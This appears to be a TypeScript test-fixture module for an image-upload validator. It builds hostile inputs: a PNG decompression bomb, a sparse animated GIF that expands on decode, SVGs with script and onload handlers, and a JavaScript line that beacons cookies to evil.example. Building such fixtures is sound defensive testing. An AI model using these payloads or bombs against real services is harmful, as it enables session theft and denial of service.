import zlib from 'node:zlib'

import sharp from 'sharp'

/** Noise rather than a flat colour, so truncating the file really cuts into image data. */
export async function noisyImage(format: 'jpeg' | 'png', width = 640, height = 480): Promise<Buffer> {
  const pixels = Buffer.alloc(width * height * 3)
  for (let index = 0; index < pixels.length; index++) pixels[index] = (index * 7919 + (index >> 5) * 104729) & 0xff
  return sharp(pixels, { raw: { width, height, channels: 3 } })[format]().toBuffer()
}

export const truncated = (bytes: Buffer, keep = 0.5) => bytes.subarray(0, Math.floor(bytes.length * keep))

const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
  let c = n
  for (let bit = 0; bit < 8; bit++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1
  return c >>> 0
})

function crc32(bytes: Buffer): number {
  let crc = 0xffffffff
  for (const byte of bytes) crc = CRC_TABLE[(crc ^ byte) & 0xff] ^ (crc >>> 8)
  return (crc ^ 0xffffffff) >>> 0
}

function pngChunk(type: string, data: Buffer): Buffer {
  const typeAndData = Buffer.concat([Buffer.from(type, 'ascii'), data])
  const length = Buffer.alloc(4)
  length.writeUInt32BE(data.length)
  const crc = Buffer.alloc(4)
  crc.writeUInt32BE(crc32(typeAndData))
  return Buffer.concat([length, typeAndData, crc])
}

/**
 * A valid 1-bit greyscale PNG of zeros: deflate shrinks the rows to almost nothing, so a
 * 20000×20000 image is about 50 KB on disk and would need gigabytes once decoded.
 */
export function decompressionBombPng(width: number, height: number): Buffer {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  header[8] = 1 // bit depth
  header[9] = 0 // greyscale
  const rowBytes = 1 + Math.ceil(width / 8) // filter byte + packed pixels
  const pixels = zlib.deflateSync(Buffer.alloc(rowBytes * height), { level: 9 })
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', header),
    pngChunk('IDAT', pixels),
    pngChunk('IEND', Buffer.alloc(0)),
  ])
}

/** Files that are not photographs, each as an attacker or a confused colleague would send it. */
export const notImages = {
  html: Buffer.from('<!DOCTYPE html><html><body><script>fetch("/api/users")</script></body></html>'),
  javascript: Buffer.from('document.cookie.split(";").forEach((c) => navigator.sendBeacon("https://evil.example", c))\n'),
  pdf: Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n'),
  exe: Buffer.concat([Buffer.from('MZ'), Buffer.alloc(58), Buffer.from([0x40, 0, 0, 0]), Buffer.from('PE\0\0'), Buffer.alloc(256)]),
  svgWithScript: Buffer.from(
    '<svg xmlns="http://www.w3.org/2000/svg" width="400" height="300"><script>alert(document.cookie)</script><rect width="400" height="300"/></svg>',
  ),
  svgWithXmlDeclaration: Buffer.from(
    '<?xml version="1.0" encoding="UTF-8"?>\n<!-- exported -->\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(1)"/>',
  ),
}

const uint16 = (value: number) => [value & 0xff, value >> 8]

/**
 * An animated GIF whose frames are one pixel each, placed in the far corner of a large canvas:
 * under 100 bytes on disk, yet every frame decodes to the full canvas.
 */
export function sparseAnimatedGif(width: number, height: number, frames: number): Buffer {
  const screen = Buffer.from([...uint16(width), ...uint16(height), 0x80, 0, 0]) // 2-colour global palette
  const palette = Buffer.from([0, 0, 0, 255, 255, 255])
  const loopForever = Buffer.from([0x21, 0xff, 0x0b, ...Buffer.from('NETSCAPE2.0'), 0x03, 0x01, 0, 0, 0])
  const frame = Buffer.from([
    ...[0x21, 0xf9, 0x04, 0x04, 0x0a, 0, 0, 0], // graphic control: 100 ms delay
    ...[0x2c, ...uint16(width - 1), ...uint16(height - 1), ...uint16(1), ...uint16(1), 0], // 1×1 at the corner
    ...[0x02, 0x02, 0x44, 0x01, 0x00], // LZW: clear, pixel 0, end
  ])
  return Buffer.concat([Buffer.from('GIF89a'), screen, palette, loopForever, ...Array<Buffer>(frames).fill(frame), Buffer.from([0x3b])])
}

/** A real animated GIF, to show multi-frame images still pass. */
export async function smallAnimatedGif(): Promise<Buffer> {
  const frames = await Promise.all(['#c33', '#3c3', '#33c'].map((colour) => sharp({ create: { width: 60, height: 40, channels: 3, background: colour } }).png().toBuffer()))
  return sharp(frames, { join: { animated: true } }).gif().toBuffer()
}
